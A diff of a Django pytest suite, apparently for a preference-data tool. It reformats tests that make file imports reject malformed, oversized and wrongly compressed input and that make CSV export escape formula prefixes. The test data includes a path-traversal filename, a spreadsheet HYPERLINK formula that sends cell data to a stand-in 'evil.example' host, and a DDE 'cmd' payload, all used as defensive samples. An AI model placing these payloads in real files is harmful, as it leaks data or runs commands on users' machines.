@@ -29,10 +29,7 @@ pytestmark = pytest.mark.django_db
 def prompts_line(i: int, **override) -> str:
     row = {
         "prompt": f"question {i}",
-        "completions": [
-            {"text": f"answer {i} a", "model": "m1"},
-            {"text": f"answer {i} b", "model": "m2"},
-        ],
+        "completions": [{"text": f"answer {i} a", "model": "m1"}, {"text": f"answer {i} b", "model": "m2"}],
     }
     return json.dumps({**row, **override}) + "\n"
 
@@ -53,9 +50,7 @@ def project():
 
 
 # --- malformed rows, wrong types, size ------------------------------------------------------------
-def test_a_bad_row_at_line_50000_of_60000_names_file_line_and_field_and_writes_nothing(
-    project, tmp_path
-):
+def test_a_bad_row_at_line_50000_of_60000_names_file_line_and_field_and_writes_nothing(project, tmp_path):
     path = tmp_path / "big.jsonl"
     with open(path, "w", encoding="utf-8") as out:
         for i in range(1, 60_001):
@@ -71,24 +66,16 @@ def test_the_api_reports_a_deep_bad_row_with_line_and_field_and_writes_nothing(a
 
     membership_set(project=project, user=researcher, role="researcher")
     lines = [prompts_line(i) for i in range(1, 5001)]
-    lines[4321] = prompts_line(
-        4322, completions=[{"text": "fine", "model": "m1"}, {"text": "\ud800", "model": "m2"}]
-    )
+    lines[4321] = prompts_line(4322, completions=[{"text": "fine", "model": "m1"}, {"text": "\ud800", "model": "m2"}])
     upload = io.BytesIO("".join(lines).encode("utf-8"))
     upload.name = "../../etc/passwd"  # a client-chosen name is never a path on the server
     before = db_fingerprint()
-    response = api(researcher).post(
-        f"/api/projects/{project.pk}/imports/", {"file": upload}, format="multipart"
-    )
+    response = api(researcher).post(f"/api/projects/{project.pk}/imports/", {"file": upload}, format="multipart")
     assert response.status_code == 400, response.content
     body = response.json()
     assert body["error"] == "import_error"
-    assert any(
-        ":4322: field 'text': contains a lone surrogate (U+D800)" in p for p in body["problems"]
-    ), body
-    assert all("/" not in p.split(":")[0] for p in body["problems"]), (
-        "the stored name has no path in it"
-    )
+    assert any(":4322: field 'text': contains a lone surrogate (U+D800)" in p for p in body["problems"]), body
+    assert all("/" not in p.split(":")[0] for p in body["problems"]), "the stored name has no path in it"
     assert db_fingerprint() == before
 
 
@@ -114,21 +101,13 @@ def _zip() -> bytes:
         ("data.jsonl.zst", b"\x28\xb5\x2f\xfd" + os.urandom(100), "zstd files are not accepted"),
         ("data.zip", _zip(), "zip files are not accepted"),
         ("data.jsonl.bz2", b"BZh91AY&SY" + os.urandom(50), "bzip2 files are not accepted"),
-        (
-            "hidden-gzip.jsonl",
-            gzip.compress(prompts_line(1).encode()),
-            "gzip-compressed data (name it .gz)",
-        ),
+        ("hidden-gzip.jsonl", gzip.compress(prompts_line(1).encode()), "gzip-compressed data (name it .gz)"),
         ("broken.jsonl.gz", b"\x1f\x8b\x08\x00broken", "not readable as gzip"),
         ("deep.jsonl", b"[" * 200_000 + b"\n", "the first line is not a JSON object"),
     ],
-    ids=lambda value: (
-        value if isinstance(value, str) and len(value) < 40 else ""
-    ),  # stable across xdist workers
+    ids=lambda value: value if isinstance(value, str) and len(value) < 40 else "",  # stable across xdist workers
 )
-def test_files_of_the_wrong_type_are_refused_by_what_they_are(
-    project, tmp_path, name, content, expected
-):
+def test_files_of_the_wrong_type_are_refused_by_what_they_are(project, tmp_path, name, content, expected):
     path = tmp_path / name
     path.write_bytes(content)
     message = refused(project, path)
@@ -140,9 +119,7 @@ def test_json_nested_too_deeply_is_an_error_on_its_line_not_a_crash(project, tmp
     path = tmp_path / "nested.jsonl"
     path.write_text(
         prompts_line(1)
-        + prompts_line(2, metadata={"x": 1}).replace(
-            '{"x": 1}', '{"x": ' + "[" * 100_000 + "]" * 100_000 + "}"
-        )
+        + prompts_line(2, metadata={"x": 1}).replace('{"x": 1}', '{"x": ' + "[" * 100_000 + "]" * 100_000 + "}")
     )
     message = refused(project, path, format="prompts-jsonl")
     assert "nested.jsonl:2: invalid JSON: nested too deeply" in message
@@ -151,9 +128,7 @@ def test_json_nested_too_deeply_is_an_error_on_its_line_not_a_crash(project, tmp
 def test_a_file_over_the_import_limit_is_refused_before_it_is_read(project, tmp_path, settings):
     settings.PREFLOOP_MAX_IMPORT_BYTES = 10 * 1024 * 1024
     path = tmp_path / "huge.jsonl"
-    with open(
-        path, "wb"
-    ) as out:  # sparse: 20 GB on paper; reading it would take minutes and fail on NULs
+    with open(path, "wb") as out:  # sparse: 20 GB on paper; reading it would take minutes and fail on NULs
         out.truncate(20 * 1024**3)
     message = refused(project, path)
     assert "larger than the import limit of 10485760 bytes" in message
@@ -169,9 +144,7 @@ def test_an_upload_over_the_limit_is_refused_from_its_declared_length(api, proje
     upload = io.BytesIO(prompts_line(1).encode() * 5000)
     upload.name = "big.jsonl"
     before = db_fingerprint()
-    response = api(researcher).post(
-        f"/api/projects/{project.pk}/imports/", {"file": upload}, format="multipart"
-    )
+    response = api(researcher).post(f"/api/projects/{project.pk}/imports/", {"file": upload}, format="multipart")
     assert response.status_code == 400
     assert response.json()["field"] == "file"
     assert "larger than 102400 bytes" in response.json()["detail"]
@@ -215,9 +188,7 @@ def test_nul_and_lone_surrogates_are_refused_naming_line_and_field(project, tmp_
     path = tmp_path / "text.jsonl"
     lines = [prompts_line(i) for i in range(1, 8)]
     lines[1] = prompts_line(2, prompt="null \u0000 byte")
-    lines[3] = prompts_line(
-        4, completions=[{"text": "ok", "model": "m\udfff"}, {"text": "b", "model": "m2"}]
-    )
+    lines[3] = prompts_line(4, completions=[{"text": "ok", "model": "m\udfff"}, {"text": "b", "model": "m2"}])
     lines[4] = prompts_line(5, metadata={"source": "x\u0000y"})
     lines[5] = prompts_line(6, id="id-\ud83d")
     path.write_text("".join(lines), encoding="utf-8", errors="surrogatepass")
@@ -231,8 +202,7 @@ def test_nul_and_lone_surrogates_are_refused_naming_line_and_field(project, tmp_
 def test_encoded_surrogates_in_utf8_are_refused_as_invalid_utf8(project, tmp_path):
     path = tmp_path / "cesu.jsonl"
     path.write_bytes(
-        prompts_line(1).encode()
-        + b'{"prompt": "\xed\xa0\x80", "completions": [{"text": "a"}, {"text": "b"}]}\n'
+        prompts_line(1).encode() + b'{"prompt": "\xed\xa0\x80", "completions": [{"text": "a"}, {"text": "b"}]}\n'
     )
     assert "cesu.jsonl:2: not valid UTF-8 (invalid continuation byte at byte 12)" in refused(
         project, path, format="prompts-jsonl"
@@ -279,12 +249,8 @@ def test_texts_round_trip_byte_exact_through_import_and_export(project, tmp_path
     # Parquet keeps them too.
     import pyarrow.parquet as pq
 
-    table = pq.read_table(
-        export_dataset(project=project, out=tmp_path / "out.parquet", format="parquet").path
-    )
-    assert sorted(table.column("chosen").to_pylist()) == sorted(
-        f"A {t}" for t in HARD_TEXTS.values()
-    )
+    table = pq.read_table(export_dataset(project=project, out=tmp_path / "out.parquet", format="parquet").path)
+    assert sorted(table.column("chosen").to_pylist()) == sorted(f"A {t}" for t in HARD_TEXTS.values())
 
 
 def test_csv_import_keeps_crlf_and_quotes_inside_fields(project, tmp_path):
@@ -297,20 +263,14 @@ def test_csv_import_keeps_crlf_and_quotes_inside_fields(project, tmp_path):
         writer.writerow([text, text + " (b)", "m2"])
     import_file(project=project, path=path)
     assert Prompt.objects.get(project=project).text == text
-    assert sorted(
-        Completion.objects.filter(prompt__project=project).values_list("text", flat=True)
-    ) == [text + " (a)", text + " (b)"]
+    assert sorted(Completion.objects.filter(prompt__project=project).values_list("text", flat=True)) == [
+        text + " (a)",
+        text + " (b)",
+    ]
 
 
 # --- CSV export: formula injection ----------------------------------------------------------------
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "\tTAB=1",
-    "\rCR=1",
-]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1"]
 
 
 def test_csv_export_escapes_formula_prefixes(api, project, tmp_path):
@@ -344,15 +304,11 @@ def test_csv_export_escapes_formula_prefixes(api, project, tmp_path):
     assert len(rows) == len(FORMULAS)
     for row in rows:
         for column, cell in row.items():
-            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (
-                f"{column}={cell!r} would run as a formula"
-            )
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{column}={cell!r} would run as a formula"
     prompts = sorted(row["prompt"] for row in rows)
     assert prompts == sorted("'" + f for f in FORMULAS)
     assert all(row["response_b"] == "'=1+2" for row in rows)
-    assert all(
-        json.loads(row["provenance_a"])["model"] == "=cmd|' /C calc'!A0" for row in rows
-    )  # inside JSON: inert
+    assert all(json.loads(row["provenance_a"])["model"] == "=cmd|' /C calc'!A0" for row in rows)  # inside JSON: inert
     assert all(row["votes"] == "1" for row in rows)
 
 
